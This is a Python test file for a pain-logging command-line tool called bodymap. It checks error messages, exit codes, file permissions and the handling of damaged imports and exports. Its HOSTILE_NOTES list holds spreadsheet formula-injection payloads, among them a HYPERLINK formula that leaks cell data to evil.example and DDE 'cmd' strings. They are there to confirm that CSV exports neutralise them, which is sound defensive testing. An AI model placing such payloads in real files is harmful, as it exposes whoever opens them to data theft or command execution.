"""Every bad input is one plain line and exit status 2 (a full disk: exit 1), in real processes;
files bodymap makes are its owner's alone, and what it leaves behind when killed is cleaned up."""

from __future__ import annotations

import csv
import json
import os
import shutil
import stat
import subprocess
import sys
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from bodymap.core.logio import CSV_FIELDS
from bodymap.core.painlog import LOG_FILE, LoggedMark, PainLog, new_entry

AT = "2026-03-01T08:00:00+01:00"
FORMULA_FIRST = ("=", "+", "-", "@", "\t", "\r", "\0")


def run_cli(
    *args: str | bytes, env: dict[str, str] | None = None, cwd: Path | None = None
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "bodymap", *args],
        capture_output=True,
        text=True,
        errors="replace",
        timeout=120,
        env=env,
        cwd=cwd,
    )


def one_plain_line(result: subprocess.CompletedProcess[str], status: int = 2) -> str:
    assert "Traceback" not in result.stderr, result.stderr
    assert result.returncode == status, result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("bodymap: ")
    return lines[0]


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _namespace() -> list[str] | None:
    """How to run a command in a private mount namespace (a tmpfs there vanishes with the
    process), or None when this machine allows none."""
    if shutil.which("unshare") is None:
        return None
    for prefix in (["unshare", "--mount", "--map-root-user"], ["unshare", "--mount"]):
        probe = subprocess.run(
            [*prefix, "sh", "-c", 'd=$(mktemp -d) && mount -t tmpfs -o size=16k tmpfs "$d"'],
            capture_output=True,
        )
        if probe.returncode == 0:
            return prefix
    return None


NAMESPACE = _namespace()
needs_mounts = pytest.mark.skipif(NAMESPACE is None, reason="cannot mount a tmpfs here (no unshare)")


def run_on_small_disk(disk: Path, options: str, *args: str) -> tuple[subprocess.CompletedProcess[str], str]:
    """`bodymap ARGS` with a tmpfs mounted at `disk` (holding `out.csv` = "old" beforehand, then
    remounted with `options`); returns the run and what `disk` held afterwards (names, then
    out.csv's text)."""
    assert NAMESPACE is not None
    disk.mkdir()
    report = disk.with_name("after.txt")
    script = (
        'disk=$1; report=$2; shift 2; mount -t tmpfs -o size=1m tmpfs "$disk" || exit 99; '
        'printf old > "$disk/out.csv"; mount -o "remount,$OPTIONS" "$disk" || exit 98; '
        '"$@" >/dev/null; status=$?; '
        '{ ls -A "$disk"; echo ---; cat "$disk/out.csv"; } > "$report"; exit $status'
    )
    result = subprocess.run(
        [
            *NAMESPACE,
            "sh",
            "-c",
            script,
            "sh",
            str(disk),
            str(report),
            sys.executable,
            "-m",
            "bodymap",
            *args,
        ],
        capture_output=True,
        text=True,
        timeout=120,
        env=dict(os.environ, OPTIONS=options),
    )
    assert result.returncode not in (98, 99), result.stderr
    return result, report.read_text()


def log_with_entries(data: Path, n: int, note: str = "") -> None:
    start = datetime(2026, 1, 1, tzinfo=UTC)
    with PainLog(data) as log:
        log.import_items(
            [
                new_entry(
                    [LoggedMark("jaw.left", i % 11)],
                    i % 11,
                    note or f"entry {i}",
                    start + timedelta(minutes=i),
                )
                for i in range(n)
            ],
            [],
        )


# -- dates Python cannot represent, or bodymap will not store


@pytest.mark.parametrize(
    "args",
    [
        ["log", "add", "jaw.left=3", "--at", "0001-01-01T00:00"],
        ["log", "add", "jaw.left=3", "--at", "0001-01-01T00:00+05:00"],
        ["log", "add", "jaw.left=3", "--at", "9999-12-31T23:59"],
        ["log", "add", "jaw.left=3", "--at", "9999-12-31T23:59-05:00"],
        ["log", "list", "--since", "0001-01-01"],
        ["log", "list", "--since", "0001-01-01T00:00+05:00"],
        ["log", "list", "--since", "9999-12-31"],
        ["log", "list", "--since", "9999-12-31T23:59-05:00"],
    ],
)
def test_a_year_far_from_now_is_one_line(tmp_path: Path, args: list[str]) -> None:
    result = run_cli("--data-dir", str(tmp_path / "data"), *args)
    assert "is not a plausible date (years 1900 to 2200)" in one_plain_line(result)
    assert not (tmp_path / "data" / LOG_FILE).exists()  # refused before the log was opened


@pytest.mark.parametrize("action", [["log", "add", "jaw.left=3", "--at"], ["log", "list", "--since"]])
def test_an_empty_time_is_refused_not_ignored(tmp_path: Path, action: list[str]) -> None:
    result = run_cli("--data-dir", str(tmp_path / "data"), *action, "")
    assert "time '' is not ISO 8601" in one_plain_line(result)


@pytest.mark.parametrize("note", [b"\xff", b"pain \xed\xa0\x80 here", b"caf\xe9"])
def test_a_note_that_is_not_utf8_is_one_line(tmp_path: Path, note: bytes) -> None:
    data = tmp_path / "data"
    result = run_cli("--data-dir", str(data), "log", "add", "jaw.left=3", "--note", note)
    assert "argument --note: is not valid UTF-8 text" in one_plain_line(result)
    assert not (data / LOG_FILE).exists()


# -- exports that cannot be written


def test_exporting_onto_a_folder_is_one_line(tmp_path: Path) -> None:
    data = tmp_path / "data"
    log_with_entries(data, 3)
    for fmt in ("csv", "json"):
        target = tmp_path / f"taken.{fmt}"
        target.mkdir()
        result = run_cli("--data-dir", str(data), "log", "export", "--format", fmt, "-o", str(target))
        assert f"cannot write {target}: it is a folder" in one_plain_line(result)
        assert list(target.iterdir()) == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "taken.csv", "taken.json"]  # no .partial


@pytest.mark.parametrize("length", [238, 245, 255])
def test_a_long_file_name_that_the_folder_allows_is_written(tmp_path: Path, length: int) -> None:
    data = tmp_path / "data"
    log_with_entries(data, 3)
    target = tmp_path / ("n" * (length - 4) + ".csv")
    result = run_cli("--data-dir", str(data), "log", "export", "--format", "csv", "-o", str(target))
    assert result.returncode == 0, result.stderr
    assert result.stderr == ""
    assert len(target.read_text(encoding="utf-8").splitlines()) == 4
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".partial")]


def test_a_file_name_longer_than_the_folder_allows_is_one_line(tmp_path: Path) -> None:
    data = tmp_path / "data"
    log_with_entries(data, 3)
    target = tmp_path / ("n" * 300 + ".json")
    result = run_cli("--data-dir", str(data), "log", "export", "--format", "json", "-o", str(target))
    assert "the file name is too long for" in one_plain_line(result)
    imported = run_cli("--data-dir", str(data), "log", "import", str(target))
    assert "cannot read" in one_plain_line(imported)


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into a read-only folder anyway")
def test_exporting_into_a_folder_without_write_permission_is_one_line(tmp_path: Path) -> None:
    data = tmp_path / "data"
    log_with_entries(data, 3)
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o500)
    try:
        result = run_cli(
            "--data-dir", str(data), "log", "export", "--format", "csv", "-o", str(locked / "x.csv")
        )
        assert f"you may not write to {locked}" in one_plain_line(result)
    finally:
        locked.chmod(0o700)


@needs_mounts
def test_exporting_onto_a_read_only_disk_is_one_line(tmp_path: Path) -> None:
    data = tmp_path / "data"
    log_with_entries(data, 3)
    disk = tmp_path / "disk"
    result, held = run_on_small_disk(
        disk,
        "size=1m,ro",
        "--data-dir",
        str(data),
        "log",
        "export",
        "--format",
        "csv",
        "-o",
        str(disk / "out.csv"),
    )
    assert f"{disk} is on a read-only disk" in one_plain_line(result)
    assert held == "out.csv\n---\nold"


@needs_mounts
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_a_full_disk_is_one_line_exit_1_and_the_old_file_stays(tmp_path: Path, fmt: str) -> None:
    data = tmp_path / "data"
    log_with_entries(data, 2000, note="a note long enough to fill a small disk quickly " * 2)
    disk = tmp_path / "disk"
    result, held = run_on_small_disk(
        disk,
        "size=64k",
        "--data-dir",
        str(data),
        "log",
        "export",
        "--format",
        fmt,
        "-o",
        str(disk / f"out.{fmt}"),
    )
    told = one_plain_line(result, status=1)  # not the person's mistake: not status 2
    assert f"cannot write {disk / f'out.{fmt}'}: the disk is full; nothing was changed" in told
    names, _, old = held.partition("---\n")
    assert names.split() == ["out.csv"]  # nothing new, no .partial left behind
    assert old == "old"  # the file that was there is whole


# -- imports that cannot be read


def _export(entries: list[object] | None = None, sessions: list[object] | None = None) -> str:
    return json.dumps(
        {"format": "bodymap-log", "version": 1, "entries": entries or [], "sessions": sessions or []}
    )


ENTRY = {
    "uid": "e" * 32,
    "time": AT,
    "overall": 3,
    "note": "n",
    "marks": [{"region": "jaw.left", "intensity": 4}],
}
SESSION = {
    "uid": "s" * 32,
    "technique": "t",
    "muscle": "m",
    "side": "left",
    "started": AT,
    "duration_s": 60.0,
    "completed": True,
}


def _with(base: dict[str, object], **changes: object) -> dict[str, object]:
    return {**base, **changes}


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ('{"entries": ' + "[" * 100_000 + "]" * 100_000 + "}", "nested too deeply"),
        (_export()[:-1] + ', "x": ' + "9" * 5000 + "}", "a number in it is too long"),
        (_export([_with(ENTRY, overall=float("nan"))]), "NaN is not a number JSON allows"),
        (_export([_with(ENTRY, overall=float("inf"))]), "Infinity is not a number JSON allows"),
        (_export(sessions=[_with(SESSION, duration_s=None)]), "session #1: duration None is not a number"),
        (_export(sessions=[_with(SESSION, duration_s=[60])]), "duration [60] is not a number"),
        (_export(sessions=[_with(SESSION, duration_s=1e308)]), "must be 0 to 86400 seconds"),
        (_export(sessions=[_with(SESSION, completed="maybe")]), "completed 'maybe' must be true or false"),
        (_export(sessions=[_with(SESSION, side=7)]), "side must be text"),
        (_export(sessions=[_with(SESSION, started="0001-01-01T00:00+05:00")]), "not a plausible date"),
        (_export([_with(ENTRY, overall=True)]), "overall pain True is not a whole number"),
        (_export([_with(ENTRY, overall=3.0)]), "overall pain 3.0 is not a whole number"),
        (_export([_with(ENTRY, overall=10**4000)]), "entry #1: overall pain"),
        (_export([_with(ENTRY, note=["x"])]), "entry #1: note must be text"),
        (_export([_with(ENTRY, note="\udcff")]), "entry #1: the note is not valid Unicode text"),
        (_export([_with(ENTRY, uid=5)]), "entry #1: uid is missing"),
        (_export([_with(ENTRY, time=20260301)]), "entry #1: time 20260301 must be ISO 8601 text"),
        (
            _export([_with(ENTRY, time="9999-12-31T23:59-05:00")]),
            "entry #1: time 9999-12-31T23:59:00-05:00 is not",
        ),
        (_export([_with(ENTRY, deleted="false")]), "deleted 'false' must be true or false"),
        (_export([_with(ENTRY, marks=[{"region": None, "intensity": 3}])]), "a mark's region must be text"),
        (
            _export([_with(ENTRY, marks=[{"region": "jaw.left", "intensity": 3, "quality": 5}])]),
            "quality of jaw",
        ),
        (
            _export(
                [_with(ENTRY, tests=[{"muscle": 1, "side": "left", "trigger_point": "x", "answer": "yes"}])]
            ),
            "test",
        ),
        (_export([7]), "entry #1: must be an object"),
        (_export(sessions=["x"]), "session #1: must be an object"),
        (
            json.dumps({"format": "bodymap-log", "version": True}),
            "format version True is not one bodymap wrote",
        ),
        (json.dumps({"format": "bodymap-log", "version": 1, "entries": None}), "'entries' must be a list"),
        (json.dumps([1, 2]), "is not a bodymap log export"),
    ],
)
def test_a_malformed_json_import_is_one_line_and_adds_nothing(
    tmp_path: Path, content: str, message: str
) -> None:
    data = tmp_path / "data"
    log_with_entries(data, 1)
    source = tmp_path / "in.json"
    source.write_text(content, encoding="utf-8", errors="surrogatepass")
    result = run_cli("--data-dir", str(data), "log", "import", str(source))
    assert message in one_plain_line(result)
    with PainLog(data) as log:
        assert log.count(include_deleted=True) == 1 and log.sessions() == []


def test_importing_a_folder_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "in.json").mkdir()
    result = run_cli("--data-dir", str(tmp_path / "data"), "log", "import", str(tmp_path / "in.json"))
    assert "is a folder, not an export file" in one_plain_line(result)


# -- CSV: formulas neutralised, damaged rows refused


HOSTILE_NOTES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1 after spaces",
    "'=1+1 that really starts with a quote",
    "''two quotes",
    "x;=1+1 a cell further on, for a spreadsheet that splits on semicolons",
]


def test_hostile_notes_are_never_live_formulas_and_survive_the_round_trip(tmp_path: Path) -> None:
    data, other = tmp_path / "data", tmp_path / "other"
    for note in HOSTILE_NOTES:
        added = run_cli("--data-dir", str(data), "log", "add", "jaw.left=3", f"--note={note}")
        assert added.returncode == 0, added.stderr
    out = tmp_path / "log.csv"
    exported = run_cli("--data-dir", str(data), "log", "export", "--format", "csv", "-o", str(out))
    assert exported.returncode == 0, exported.stderr

    raw = out.read_text(encoding="utf-8")
    cells = [cell for row in csv.reader(raw.splitlines(keepends=True)) for cell in row]
    assert len(cells) == len(CSV_FIELDS) * (1 + len(HOSTILE_NOTES))
    for cell in cells:  # as a spreadsheet reads them: none starts a formula, even after spaces
        assert cell[:1] not in FORMULA_FIRST and cell.lstrip()[:1] not in FORMULA_FIRST, cell
    # each note that could start a formula, or starts with a quote, has one quote put in front;
    # the last one cannot start a cell of a file split on commas, and is left as it is
    assert raw.count("\"'") == len(HOSTILE_NOTES) - 1

    imported = run_cli("--data-dir", str(other), "log", "import", str(out))
    assert imported.returncode == 0, imported.stderr
    assert imported.stdout.startswith(f"{len(HOSTILE_NOTES)} entries")
    before = json.loads(run_cli("--data-dir", str(data), "log", "list", "--json").stdout)
    after = json.loads(run_cli("--data-dir", str(other), "log", "list", "--json").stdout)
    assert sorted(e["note"] for e in after) == sorted(HOSTILE_NOTES)
    assert after == before


def test_a_csv_cut_short_is_refused_naming_the_line_and_the_whole_file_imports_later(tmp_path: Path) -> None:
    data, other = tmp_path / "data", tmp_path / "other"
    log_with_entries(data, 2, note="a note, with a comma")
    whole = tmp_path / "whole.csv"
    assert (
        run_cli("--data-dir", str(data), "log", "export", "--format", "csv", "-o", str(whole)).returncode == 0
    )
    text = whole.read_text(encoding="utf-8")
    last_row = text.rstrip("\r\n").rfind("\n") + 1
    cut = tmp_path / "cut.csv"
    for end in range(last_row + 1, len(text.rstrip("\r\n"))):  # cut anywhere inside the last row
        cut.write_text(text[:end], encoding="utf-8", newline="")
        result = run_cli("--data-dir", str(other), "log", "import", str(cut))
        assert "cut.csv, line 3: " in one_plain_line(result), text[:end]
        if end > last_row + 40:
            break  # the first 40 places cover every field boundary before the note; the rest is unit-tested
    listed = run_cli("--data-dir", str(other), "log", "list", "--json")
    assert json.loads(listed.stdout) == []  # nothing stored from the damaged file
    result = run_cli("--data-dir", str(other), "log", "import", str(whole))
    assert result.returncode == 0 and result.stdout.startswith("2 entries"), result.stderr


@pytest.mark.parametrize(
    ("rows", "message"),
    [
        ([f"entry,a1,{AT},3,,jaw.left=3,0,extra"], "line 2: has 8 fields, the header 7"),
        ([f"entry,a1,{AT},3,,jaw.left=3"], "line 2: has 6 fields, the header 7"),
        (
            [f"entry,a1,{AT},3,,jaw.left=3,0", "entry,a2,yesterday,3,,jaw.left=3,0"],
            "line 3: time 'yesterday'",
        ),
        (
            [f"entry,a1,{AT},3,,jaw.left=3,0", f"note,a2,{AT},3,,jaw.left=3,0"],
            "line 3: kind 'note' must be entry",
        ),
        (
            [f'entry,a1,{AT},3,"a note,\nover two lines",jaw.left=3,0', f"entry,a2,{AT},3,,jaw.lef"],
            "line 4: ",
        ),
        ([f'entry,a1,{AT},3,"a note cut short'], "line 2: is not valid CSV"),
        ([f"entry,a1,{AT},3,,jaw.left=3,2"], "line 2: deleted '2' must be true or false"),
    ],
)
def test_a_damaged_csv_row_fails_the_whole_import(tmp_path: Path, rows: list[str], message: str) -> None:
    source = tmp_path / "in.csv"
    source.write_text("kind,uid,time,overall,note,marks,deleted\n" + "\n".join(rows) + "\n", encoding="utf-8")
    result = run_cli("--data-dir", str(tmp_path / "data"), "log", "import", str(source))
    assert f"in.csv, {message}" in one_plain_line(result)
    assert json.loads(run_cli("--data-dir", str(tmp_path / "data"), "log", "list", "--json").stdout) == []


# -- the data folder


@pytest.mark.parametrize("how", ["option", "environment"])
def test_an_empty_data_dir_is_refused_and_the_real_log_untouched(tmp_path: Path, how: str) -> None:
    home = tmp_path / "home"
    home.mkdir()
    env = {k: v for k, v in os.environ.items() if k != "BODYMAP_DATA_DIR"}
    env.update(HOME=str(home), XDG_DATA_HOME=str(home / "share"))
    args = ["log", "add", "jaw.left=3"]
    if how == "option":
        result = run_cli("--data-dir", "", *args, env=env)
        assert "--data-dir is empty" in one_plain_line(result)
    else:
        result = run_cli(*args, env=dict(env, BODYMAP_DATA_DIR=""))
        assert "$BODYMAP_DATA_DIR is set but empty" in one_plain_line(result)
    assert list(home.iterdir()) == []  # the platform's folder was not even created
    assert result.stdout == ""


def test_an_existing_data_folder_keeps_its_mode_and_new_files_are_private(tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o755)
    assert run_cli("--data-dir", str(shared), "log", "add", "jaw.left=3").returncode == 0
    assert mode(shared) == 0o755  # the person's choice, left alone
    assert mode(shared / LOG_FILE) == 0o600

    made = tmp_path / "new" / "data"
    assert run_cli("--data-dir", str(made), "log", "add", "jaw.left=3").returncode == 0
    assert mode(made) == 0o700
    assert mode(made / LOG_FILE) == 0o600
    out = tmp_path / "out.json"
    assert (
        run_cli("--data-dir", str(made), "log", "export", "--format", "json", "-o", str(out)).returncode == 0
    )
    assert mode(out) == 0o600


def test_a_screenshot_is_private_and_written_whole(tmp_path: Path) -> None:
    out = tmp_path / "shot.png"
    result = run_cli("--data-dir", str(tmp_path / "data"), "screenshot", str(out), "--mark", "jaw.left=5")
    assert result.returncode == 0, result.stderr
    assert out.read_bytes().startswith(b"\x89PNG")
    assert mode(out) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["shot.png"]  # no .partial, no data folder


def test_stale_partials_of_a_killed_export_are_removed_on_the_next_export(tmp_path: Path) -> None:
    data = tmp_path / "data"
    log_with_entries(data, 3)
    out = tmp_path / "log.csv"
    hour_ago = time.time() - 3600
    stale = tmp_path / ".log.csv.k1ll3d_x.partial"
    fresh = tmp_path / ".log.csv.running1.partial"  # another export, writing right now
    other = tmp_path / ".other.csv.k1ll3d_y.partial"  # another target's: not this export's to judge
    for leftover in (stale, fresh, other):
        leftover.write_bytes(b"x" * 1000)
    os.utime(stale, (hour_ago, hour_ago))
    os.utime(other, (hour_ago, hour_ago))
    result = run_cli("--data-dir", str(data), "log", "export", "--format", "csv", "-o", str(out))
    assert result.returncode == 0, result.stderr
    assert not stale.exists()
    assert fresh.exists() and other.exists()
    assert out.exists()
